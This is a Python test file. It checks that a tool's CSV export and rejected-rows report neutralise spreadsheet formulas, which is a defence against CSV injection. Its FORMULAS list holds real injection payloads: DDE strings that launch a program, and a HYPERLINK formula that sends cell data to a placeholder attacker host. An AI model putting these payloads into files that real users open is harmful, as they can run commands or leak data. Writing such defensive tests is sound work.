"""Every CSV cxbot writes opens in a spreadsheet without running anything (OWASP's CSV
Injection advice): `cxbot export ... --format csv` and the rejected-rows report."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import Result

from core.csvsafe import SafeWriter, is_formula
from tests.bot.test_cli_import import cli  # noqa: F401 - the fixture

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1+1,"quoted",\nnext',
]


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def assert_inert(cells: list[str]) -> None:
    for cell in cells:
        assert not is_formula(cell), cell


def test_export_neutralises_formula_cells(
    cli: Callable[..., Result],  # noqa: F811
    tmp_path: Path,
) -> None:
    path = write_csv(
        tmp_path / "answers.csv",
        ["responded_at", "metric", "score", "comment", "segment", "response_id"],
        [
            ["2026-11-20", "nps", "9", text, "=1+2" if i else "-5", f"r{i}"]
            for i, text in enumerate(FORMULAS)
        ],
    )
    assert cli("import", "responses", str(path)).exit_code == 0
    out = tmp_path / "export.csv"
    result = cli("export", "responses", "--format", "csv", "--out", str(out))
    assert result.exit_code == 0, result.output
    rows = read_csv(out)
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS)
    for row in body:
        assert_inert(row)
    comments = {row[header.index("comment")] for row in body}
    assert comments == {"'" + text for text in FORMULAS}  # shown, with the quote in front
    assert {row[header.index("score")] for row in body} == {"9"}
    # A text that is only a (negative) number stays as it is: it cannot act.
    assert "-5" in {row[header.index("segment")] for row in body}
    raw = out.read_text(encoding="utf-8-sig")
    assert "\"'=cmd|' /C calc'!A0\"" in raw  # quoted as well


def test_rejected_rows_report_neutralises_formula_cells_and_keeps_numbers(
    cli: Callable[..., Result],  # noqa: F811
    tmp_path: Path,
) -> None:
    path = write_csv(
        tmp_path / "bad.csv",
        ["responded_at", "metric", "score", "comment"],
        [["2026-11-20", "nps", "-7.0", text] for text in FORMULAS]
        + [["=HYPERLINK(1)", "@metric", "9", "x"]],
    )
    result = cli("import", "responses", str(path))
    # Every row rejected is bad input (CONTRACT.md: exit 1); the report is written all the same.
    assert result.exit_code == 1, result.output
    rows = read_csv(tmp_path / "bad.csv.rejected.csv")
    assert rows[0] == ["line", "reason", "responded_at", "metric", "score", "comment", "other"]
    for row in rows[1:]:
        assert_inert(row)
    scores = [row[4] for row in rows[1 : len(FORMULAS) + 1]]
    assert scores == ["-7.0"] * len(FORMULAS)  # a number stays a number
    assert rows[-1][2:4] == ["'=HYPERLINK(1)", "'@metric"]


@pytest.mark.parametrize("value", [-7.0, -7, "-7.0", "+3", "-1e5", "12.5", ""])
def test_numbers_are_left_alone(value: object) -> None:
    out = io.StringIO()
    SafeWriter(out, lineterminator="\n").writerow(["=x", value])
    assert out.getvalue() == f'"\'=x",{value}\n'
